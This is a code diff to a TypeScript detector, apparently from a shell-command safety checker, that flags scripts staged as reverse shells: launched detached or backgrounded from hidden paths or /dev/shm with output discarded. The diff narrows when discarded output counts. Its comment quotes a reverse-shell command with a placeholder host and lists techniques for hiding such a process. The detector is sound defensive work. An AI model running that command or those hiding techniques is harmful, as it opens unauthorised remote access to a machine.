@@ -5,7 +5,7 @@
 // it), then started with the address to call back, or detached from the session so it outlives
 // the call (nohup, setsid, disown, `screen -dm`, `tmux new -d`, `systemd-run`, `launchctl
 // submit`, a lone `&`) while it hides: a dot name anywhere in its path (`/tmp/.cache/.s/a.py`),
-// shared memory (`/dev/shm`), or every byte of its output thrown away. Read as the reverse shell it stages (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), which
+// shared memory (`/dev/shm`), or (under a detacher) every byte of its output thrown away. Read as the reverse shell it stages (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), which
 // the reverse-shell rules deny. A project's own program, a temp script run in the foreground, or
 // one given a loopback address is ordinary work and is not read.
 import { basename } from '../shell-wrappers.js';
@@ -111,8 +111,11 @@ export function stagedShellEffects(l: LineView, out: Effect[]): void {
     const hidden = t.file.split('/').some((p) => p.startsWith('.')) || t.file.startsWith('/dev/shm/');
     const discarded = c.redirs.some((r) => r.target === '/dev/null');
     // detached: nohup/setsid/screen/tmux/systemd-run, or put in the background
-    const background = t.detached || DETACHED.test(l.text) || LONE_AMPERSAND.test(l.text);
-    if (!at && !(background && (hidden || discarded))) continue;
+    const detacher = t.detached || DETACHED.test(l.text);
+    const background = detacher || LONE_AMPERSAND.test(l.text);
+    // a scratch script put in the background with its output dropped (`node /tmp/x.js > /dev/null &`)
+    // is everyday work; dropped output counts when a detacher makes it outlive the session
+    if (!at && !((background && hidden) || (detacher && discarded))) continue;
     // the address is in the payload: a placeholder host the reverse-shell rules read as remote
     const host = at?.host ?? 'callback.invalid';
     out.push({
